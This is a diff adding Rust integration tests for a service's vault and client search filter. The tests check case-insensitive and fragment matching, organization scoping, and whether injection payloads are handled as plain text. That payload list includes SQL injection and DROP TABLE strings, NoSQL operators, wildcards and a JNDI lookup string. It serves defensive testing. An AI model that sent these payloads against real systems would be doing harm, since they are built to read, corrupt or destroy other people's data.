@@ -0,0 +1,267 @@
+// Search Tests
+//
+// Exercises the `search` filter of Control's vault and client lists. Every name a search returns
+// must contain the query, ignoring case; a query in different case or a fragment of a name must
+// match all of the names containing it or none of them, whichever Control's matching rules are.
+// Injection payloads (SQL, LIKE wildcards, regex, NoSQL operators) must be treated as plain text:
+// they match nothing, never fail with a server error, and leave the data intact. A search never
+// reaches beyond the organization it is scoped to. Skipped if Control ignores the filter.
+
+use reqwest::StatusCode;
+
+use super::*;
+
+/// Payloads that must be searched for literally, none of which occur in a test entity's name
+const INJECTION_PAYLOADS: &[&str] = &[
+    "' OR '1'='1",
+    "\"; DROP TABLE vaults; --",
+    "%",
+    "_",
+    "*",
+    ".*",
+    "\\",
+    "%00",
+    "{\"$ne\": null}",
+    "${jndi:ldap://example.invalid/a}",
+];
+
+#[derive(Debug, Clone, Copy)]
+enum Kind {
+    Vaults,
+    Clients,
+}
+
+/// A marker in mixed case, unique to one test, to build searchable names from
+fn marker() -> String {
+    format!("Srch{}", &Uuid::new_v4().simple().to_string()[..10])
+}
+
+/// Create one vault or client named `name` in the fixture's organization
+async fn create(fixture: &TestFixture, kind: Kind, name: String) {
+    let control = fixture.control();
+    match kind {
+        Kind::Vaults => {
+            let req = CreateVaultRequest { name, organization_id: fixture.org_id };
+            control.create_vault(fixture.org_id, &req).await.expect("Failed to create vault");
+        },
+        Kind::Clients => {
+            let req = CreateClientRequest { name };
+            control.create_client(fixture.org_id, &req).await.expect("Failed to create client");
+        },
+    }
+}
+
+/// Names of the vaults or clients on the first page of `org_id`'s list, as the fixture's user
+async fn list(
+    fixture: &TestFixture,
+    kind: Kind,
+    org_id: i64,
+    page: &PageRequest,
+) -> ApiResult<Vec<String>> {
+    let control = fixture.control();
+    Ok(match kind {
+        Kind::Vaults => control
+            .list_vaults_page(org_id, page)
+            .await?
+            .vaults
+            .into_iter()
+            .map(|vault| vault.name)
+            .collect(),
+        Kind::Clients => control
+            .list_clients_page(org_id, page)
+            .await?
+            .clients
+            .into_iter()
+            .map(|client| client.name)
+            .collect(),
+    })
+}
+
+/// Names of the vaults or clients in `org_id` matching `query`, searched as the fixture's user
+async fn search(
+    fixture: &TestFixture,
+    kind: Kind,
+    org_id: i64,
+    query: &str,
+) -> ApiResult<Vec<String>> {
+    list(fixture, kind, org_id, &PageRequest::search(query)).await
+}
+
+/// Assert searching for `marker` returns exactly the `expected` names; `false` if Control ignores
+/// the filter (the answer holds names without the marker) or rejects it
+async fn filters(fixture: &TestFixture, kind: Kind, marker: &str, expected: &[String]) -> bool {
+    match search(fixture, kind, fixture.org_id, marker).await {
+        Ok(mut names) => {
+            let needle = marker.to_lowercase();
+            if names.iter().any(|name| !name.to_lowercase().contains(&needle)) {
+                return false;
+            }
+            names.sort();
+            assert_eq!(names, expected, "Searching {:?} for {:?}", kind, marker);
+            true
+        },
+        Err(e) if e.is_unsupported() || e.status() == Some(StatusCode::BAD_REQUEST) => false,
+        Err(e) => panic!("Failed to search {:?}: {}", kind, e),
+    }
+}
+
+#[track_caller]
+fn assert_all_contain(names: &[String], query: &str, kind: Kind) {
+    let needle = query.to_lowercase();
+    let unrelated: Vec<_> =
+        names.iter().filter(|name| !name.to_lowercase().contains(&needle)).collect();
+    assert!(unrelated.is_empty(), "Searching {:?} for {:?} returned {:?}", kind, query, unrelated);
+}
+
+#[tokio::test]
+async fn test_search_matches_case_and_fragments_consistently() {
+    let fixture = TestFixture::create().await.expect("Failed to create test fixture");
+
+    for kind in [Kind::Vaults, Kind::Clients] {
+        let marker = marker();
+        let mut expected = Vec::new();
+        for label in ["Alpha", "Beta", "Gamma"] {
+            let name = naming::entity_name(&format!("{} {}", marker, label));
+            create(&fixture, kind, name.clone()).await;
+            expected.push(name);
+        }
+        expected.sort();
+
+        if !filters(&fixture, kind, &marker, &expected).await {
+            outcome::skip(format!("Skipping search test - Control does not filter {:?}", kind));
+            fixture.cleanup().await.expect("Failed to cleanup");
+            return;
+        }
+        println!("✓ {:?}: exact marker matches all {} names", kind, expected.len());
+
+        for (description, query) in [
+            ("upper case", marker.to_uppercase()),
+            ("lower case", marker.to_lowercase()),
+            ("fragment", marker[2..marker.len() - 2].to_string()),
+            ("fragment with label", format!("{} Alph", marker)),
+        ] {
+            let names =
+                search(&fixture, kind, fixture.org_id, &query).await.expect("Failed to search");
+            assert_all_contain(&names, &query, kind);
+            let matching = expected
+                .iter()
+                .filter(|name| name.to_lowercase().contains(&query.to_lowercase()))
+                .filter(|name| names.contains(name))
+                .count();
+            let candidates = expected
+                .iter()
+                .filter(|name| name.to_lowercase().contains(&query.to_lowercase()))
+                .count();
+            assert!(
+                matching == 0 || matching == candidates,
+                "{:?} search by {} {:?} matched {} of {} names; matching must be all or none",
+                kind,
+                description,
+                query,
+                matching,
+                candidates
+            );
+            println!(
+                "✓ {:?}: {} search {}",
+                kind,
+                description,
+                if matching == 0 { "matches nothing" } else { "matches every name containing it" }
+            );
+        }
+    }
+
+    fixture.cleanup().await.expect("Failed to cleanup");
+}
+
+#[tokio::test]
+async fn test_search_treats_injection_payloads_as_text() {
+    let fixture = TestFixture::create().await.expect("Failed to create test fixture");
+
+    for kind in [Kind::Vaults, Kind::Clients] {
+        let marker = marker();
+        let name = naming::entity_name(&marker);
+        create(&fixture, kind, name.clone()).await;
+        if !filters(&fixture, kind, &marker, std::slice::from_ref(&name)).await {
+            outcome::skip(format!("Skipping search test - Control does not filter {:?}", kind));
+            fixture.cleanup().await.expect("Failed to cleanup");
+            return;
+        }
+        let mut before = list(&fixture, kind, fixture.org_id, &PageRequest::default())
+            .await
+            .expect("Failed to list");
+
+        for payload in INJECTION_PAYLOADS {
+            match search(&fixture, kind, fixture.org_id, payload).await {
+                Ok(names) => assert!(
+                    names.is_empty(),
+                    "{:?} search for {:?} should match nothing, got {:?}",
+                    kind,
+                    payload,
+                    names
+                ),
+                Err(e) => {
+                    let status = e.status();
+                    assert!(
+                        matches!(
+                            status,
+                            Some(StatusCode::BAD_REQUEST | StatusCode::UNPROCESSABLE_ENTITY)
+                        ),
+                        "{:?} search for {:?} should be answered or rejected, got {}",
+                        kind,
+                        payload,
+                        e
+                    );
+                },
+            }
+        }
+        println!("✓ {:?}: {} injection payloads matched nothing", kind, INJECTION_PAYLOADS.len());
+
+        let mut after = list(&fixture, kind, fixture.org_id, &PageRequest::default())
+            .await
+            .expect("Failed to list");
+        before.sort();
+        after.sort();
+        assert_eq!(before, after, "{:?} changed after searching injection payloads", kind);
+        println!("✓ {:?}: list unchanged afterwards", kind);
+    }
+
+    fixture.cleanup().await.expect("Failed to cleanup");
+}
+
+#[tokio::test]
+async fn test_search_respects_organization_boundaries() {
+    let fixture_a = TestFixture::create().await.expect("Failed to create fixture A");
+    let fixture_b = TestFixture::create().await.expect("Failed to create fixture B");
+
+    for kind in [Kind::Vaults, Kind::Clients] {
+        let marker = marker();
+        let name = naming::entity_name(&marker);
+        create(&fixture_b, kind, name.clone()).await;
+        if !filters(&fixture_b, kind, &marker, std::slice::from_ref(&name)).await {
+            outcome::skip(format!("Skipping search test - Control does not filter {:?}", kind));
+            fixture_a.cleanup().await.expect("Failed to cleanup fixture A");
+            fixture_b.cleanup().await.expect("Failed to cleanup fixture B");
+            return;
+        }
+
+        let own = search(&fixture_a, kind, fixture_a.org_id, &marker)
+            .await
+            .expect("Failed to search own organization");
+        assert!(own.is_empty(), "Organization A's {:?} search found B's {:?}", kind, own);
+        println!("✓ {:?}: search in A does not find B's entity", kind);
+
+        match search(&fixture_a, kind, fixture_b.org_id, &marker).await {
+            Ok(names) => panic!("A's user searched B's {:?} and got {:?}", kind, names),
+            Err(e) => assert!(
+                matches!(e.status(), Some(StatusCode::FORBIDDEN | StatusCode::NOT_FOUND)),
+                "A's user searching B's {:?} should get 403 or 404, got {}",
+                kind,
+                e
+            ),
+        }
+        println!("✓ {:?}: A's user cannot search B's organization", kind);
+    }
+
+    fixture_a.cleanup().await.expect("Failed to cleanup fixture A");
+    fixture_b.cleanup().await.expect("Failed to cleanup fixture B");
+}